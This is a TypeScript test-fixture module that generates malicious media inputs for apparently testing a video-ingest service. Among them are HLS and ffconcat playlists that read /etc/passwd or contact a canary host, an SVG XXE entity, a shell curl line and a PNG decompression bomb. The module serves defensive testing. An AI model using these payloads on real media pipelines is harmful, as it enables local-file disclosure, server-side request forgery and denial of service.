import { deflateSync, gzipSync } from "node:zlib";

/** Side of the picture that is 32 KB packed and 32 MB unpacked. */
const BOMB_PX = 16_000;

/** What is no film, however it is named; many name other files or hosts. `canaryUrl` is a host that nobody may ask. */
export function disguises(canaryUrl: string): Record<string, Buffer> {
  const segment = `${canaryUrl}/segment.ts`;
  const texts: Record<string, string> = {
    m3u8: `#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:4\n#EXTINF:4,\n${segment}\n#EXT-X-ENDLIST\n`,
    m3u8_file: "#EXTM3U\n#EXT-X-TARGETDURATION:4\n#EXTINF:4,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n",
    m3u8_concat: `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10,\nconcat:${segment}|file:///etc/passwd\n#EXT-X-ENDLIST\n`,
    m3u8_key: `#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="${canaryUrl}/key"\n#EXTINF:4,\n/etc/passwd\n#EXT-X-ENDLIST\n`,
    ffconcat: `ffconcat version 1.0\nfile '/etc/passwd'\nfile '${segment}'\n`,
    mpd: `<?xml version="1.0"?><MPD><Period><BaseURL>${canaryUrl}/</BaseURL></Period></MPD>`,
    svg: `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${canaryUrl}/a.png"/></svg>`,
    svg_entity: `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg><text>&x;</text></svg>`,
    html: `<!doctype html><html><body><video src="${canaryUrl}/film.mp4"></video></body></html>`,
    json: `{"error":{"message":"The link has expired"}}`,
    sdp: "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\n",
    asx: `<asx version="3.0"><entry><ref href="${segment}"/></entry></asx>`,
    pls: `[playlist]\nFile1=${segment}\nNumberOfEntries=1\n`,
    shell: `#!/bin/sh\ncurl ${canaryUrl}\n`,
    vtt: "WEBVTT\n\n00:00.000 --> 00:01.000\nHello\n",
    srt: "1\n00:00:00,000 --> 00:00:01,000\nHello\n",
    ass: "[Script Info]\nScriptType: v4.00+\n",
    y4m: "YUV4MPEG2 W65535 H65535 F25:1\nFRAME\n",
    pdf: "%PDF-1.7\n1 0 obj\n<<>>\n",
    imf: `<?xml version="1.0"?><AssetMap><Path>${segment}</Path></AssetMap>`,
  };
  return {
    ...Object.fromEntries(Object.entries(texts).map(([name, text]) => [name, Buffer.from(text)])),
    png_bomb: pngBomb(),
    gzip: gzipSync(Buffer.alloc(1_000_000)),
    zip: Buffer.concat([Buffer.from("PK\x03\x04"), Buffer.alloc(200)]),
    jpeg: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16]), Buffer.from("JFIF"), Buffer.alloc(200)]),
    gif: Buffer.concat([Buffer.from("GIF89a"), Buffer.alloc(200, 0xff)]),
    elf: Buffer.concat([Buffer.from("\x7fELF"), Buffer.alloc(500)]),
    heic: Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from("ftypheic"), Buffer.alloc(500)]),
    zeros: Buffer.alloc(100_000),
    one_byte: Buffer.from([0]),
    only_ftyp: Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from("ftypisom"), Buffer.alloc(12)]),
  };
}

/** The same behind the first box of a film: whoever looks at the first bytes alone takes it for one. */
export function behindFilmHead(content: Buffer): Buffer {
  return Buffer.concat([Buffer.from([0, 0, 0, 16]), Buffer.from("ftypisom"), Buffer.alloc(4), content]);
}

/** A PNG of one bit a pixel, all black. */
function pngBomb(): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(BOMB_PX, 0);
  header.writeUInt32BE(BOMB_PX, 4);
  header.set([1, 0, 0, 0, 0], 8);
  const rows = deflateSync(Buffer.alloc(BOMB_PX * (1 + BOMB_PX / 8)));
  const chunk = (type: string, body: Buffer): Buffer => {
    const sized = Buffer.concat([Buffer.alloc(4), Buffer.from(type), body, Buffer.alloc(4)]); // check sums are wrong
    sized.writeUInt32BE(body.length, 0);
    return sized;
  };
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([signature, chunk("IHDR", header), chunk("IDAT", rows), chunk("IEND", Buffer.alloc(0))]);
}
